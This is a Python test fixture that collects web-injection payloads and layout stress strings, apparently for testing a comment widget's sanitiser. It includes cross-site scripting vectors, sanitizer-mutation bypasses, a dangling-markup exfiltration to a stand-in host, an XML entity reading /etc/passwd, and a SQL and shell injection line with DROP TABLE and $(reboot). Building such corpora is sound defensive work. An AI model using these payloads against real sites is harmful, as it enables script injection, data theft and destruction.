"""Texts that want to run, to look like something else, or to break the page: each idea by its name."""

from __future__ import annotations

RUN = "window.hacked=1"
FAR = "//elsewhere.invalid"

ELEMENTS = {
    "script": f"<script>{RUN}</script>",
    "script of mixed case": f"<ScRiPt>{RUN}</sCrIpT>",
    "script within script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script from elsewhere": f"<script src={FAR}/x.js></script>",
    "script after a null byte": f"<scr\0ipt>{RUN}</script>",
    "script with a slash": f"<script/x>{RUN}</script>",
    "module script": f"<script type=module>{RUN}</script>",
    "image": f'<img src=x onerror="{RUN}">',
    "image without quotes or spaces": f"<img/src=x/onerror={RUN}>",
    "image never closed": f'<img src="{FAR}/steal?',
    "image in a template": f"<template><img src=x onerror={RUN}></template>",
    "svg": f"<svg onload={RUN}>",
    "svg with script": f"<svg><script>{RUN}</script></svg>",
    "svg animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "svg use": f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"/></svg>',
    "svg foreign object": f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    "mathml": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">click</maction></math>',
    "mathml link": f"<math href='javascript:{RUN}'>click</math>",
    "iframe": f'<iframe src="javascript:{RUN}"></iframe>',
    "iframe with a document": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object": f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "embed": f"<embed src={FAR}/x.swf>",
    "details": f"<details open ontoggle={RUN}>x</details>",
    "focus": f"<input autofocus onfocus={RUN}>",
    "video": f"<video><source onerror={RUN}></video>",
    "audio": f"<audio src=x onerror={RUN}></audio>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "body": f"<body onload={RUN} onpageshow={RUN}>",
    "style": "<style>*{display:none!important}</style>",
    "style from elsewhere": f"<link rel=stylesheet href={FAR}/x.css><style>@import '{FAR}/y.css'</style>",
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={FAR}">',
    "base": f"<base href={FAR}/>",
    "form": f"<form action={FAR}><input name=password><button autofocus onfocus={RUN}>Go</button></form>",
    "closing everything": f"</p></div></article></section></main></body></html><script>{RUN}</script>",
    "closing a title": f"</title></textarea></style></noscript></template><script>{RUN}</script>",
    "closing the textarea": f"</textarea><img src=x onerror={RUN}>",
    "plaintext": "<plaintext>and nothing more",
    "frameset": f"<frameset onload={RUN}>",
    "custom element": f"<x-y style=animation-name:z onanimationstart={RUN}></x-y>",
    "widget in the widget": "<engagement-footer site=demo article=x></engagement-footer>",
    "dialog": "<dialog open>Your session is over. Sign in again.</dialog>",
    "popover": "<div popover id=p>x</div><button popovertarget=p>x</button>",
    "comment": f"<!--><script>{RUN}</script-->",
    "comment with a bang": f"<!-- --!><script>{RUN}</script> -->",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "cdata end": f"]]><script>{RUN}</script>",
    "processing instruction": f"<?xml-stylesheet href='javascript:{RUN}'?>",
    "entity definition": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    "xhtml": f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script>',
}
ATTRIBUTES = {
    "out of double quotes": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    "out of single quotes": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}",
    "out of backticks": f"`onmouseover=`{RUN}",
    "out of a tag": f'"><script>{RUN}</script>',
    "style attribute": '<p style="position:fixed;inset:0;background:red">all of it</p>',
    "id attribute": '<a id="engagement-talk" name="body">clobbered</a>',
    "class attribute": '<p class="engagement-problem">Your comment was lost.</p>',
}
ADDRESSES = {
    "javascript": f"[click](javascript:{RUN})",
    "javascript in entities": f"[click](&#106;avascript&#58;{RUN})",
    "javascript in escapes": f"[click](java%73cript:{RUN})",
    "javascript with a tab": f"[click](java\tscript:{RUN})",
    "javascript in angles": f"[click](<javascript:{RUN}>) <javascript:{RUN}>",
    "javascript by reference": f"[click][1]\n\n[1]: javascript:{RUN}",
    "vbscript": "[click](vbscript:msgbox(1))",
    "data": f"[click](data:text/html,<script>{RUN}</script>)",
    "blob and file": "[blob](blob:https://a/b) [file](file:///etc/passwd) [view](view-source:x)",
    "image by markdown": f"![x]({FAR}/pixel.png)",
    "title": f"[click](https://example.com '\" onmouseover={RUN} x=\"')",
    "link in a link": f"[a](https://example.com/[b](javascript:{RUN}))",
    "user in an address": "[bank](https://bank.example@elsewhere.invalid)",
    "quotes in an address": f'https://example.com/"onmouseover="{RUN}',
    "brackets in an address": f"https://example.com/<script>{RUN}</script>",
}
WORDS = {
    "templates": "{{7*7}} {{constructor.constructor('window.hacked=1')()}} {% raw %} ${7*7} <%= 7*7 %>",
    "json": f'"}}]}}</script><script>{RUN}</script>{{"a":["',
    "json escapes": "\\u003c/script\\u003e\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
    "line separators": f"\u2028{RUN}\u2029//",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62; &amp;lt;b&amp;gt;",
    "entities without an end": f"&#x3cscript&#x3e{RUN}",
    "half a surrogate": "\\ud83d \\udc00 &#xd800;",
    "utf-7": "+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-",
    "overlong utf-8 as latin": "\u00c0\u00bcscript\u00c0\u00be",
    "full-width brackets": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "controls": "a\x00b\x07c\x08d\x1be[31mf\x7fg\x85h",
    "sql and shell": "'; DROP TABLE comments; -- $(reboot) `reboot` | cat /etc/passwd",
}
MUTATIONS = {
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation by math and style": (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>"
    ),
    "mutation by svg and title": f"<svg></p><title><a id='</title><img src=x onerror={RUN}>'></svg>",
    "mutation by form in a form": f"<form><math><mi></form><form><mglyph><style></math><img onerror={RUN}>",
    "mutation by select": f"<select><template><style></select><img src=x onerror={RUN}></style></template>",
    "mutation by table": f"<table><caption><svg><style></caption><img src=x onerror={RUN}></style>",
    "mutation by code": f"```\n</code></pre><img src=x onerror={RUN}>\n```",
    "mutation by emphasis": f"**<img src=x **onerror={RUN}>** _<b_ `<`script>`",
}
LAYOUT = {
    "unbroken": "x" * 5_000,
    "unbroken with spaces that hold": "x\u00a0" * 2_500,
    "unbroken by tags": "**a**_b_" * 600,
    "unbroken link": "https://example.org/" + "a" * 2_000,
    "unbroken code": "```\n" + "y" * 2_000 + "\n```",
    "code in a line": "`" + "z" * 1_000 + "`",
    "zalgo": ("z" + "\u0301\u0316\u0334\u0489" * 50) * 20,
    "zalgo of spacing marks": "\u0e01" + "\u0e33" * 500 + " \u0915" + "\u093e" * 500,
    "spacing marks alone": "\u1000" + "\u102b\u1038" * 200,
    "right to left": "\u202e\u2067gnp.exe\u202c " + "\u0634" * 500,
    "emoji": "\U0001f600" * 2_000,
    "families": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 250,
    "flags": "\U0001f1e9\U0001f1ea" * 800,
    "ideographs": "\u5b57" * 5_000,
    "lines": "\n" * 4_000 + "end" + "\n\n" * 500,
    "quotes": "\n".join(">" * depth + " deep" for depth in range(1, 60)),
    "lists": "\n".join("  " * depth + "- deep" for depth in range(60)),
    "numbers": "999999999. first\n1000000000. second",
    "wide letters": "\ufdfd\U00012031\ua9c5" * 300,
    "hyphens that hold": "a\u2011" * 1_000,
}
RUNNING = ELEMENTS | ATTRIBUTES | ADDRESSES | WORDS | MUTATIONS
CORPUS = RUNNING | LAYOUT


def chunks(size: int = 20) -> list[list[str]]:
    """The corpus in parts that fit on one page, each text once."""
    texts = list(CORPUS.values())
    return [texts[n : n + size] for n in range(0, len(texts), size)]
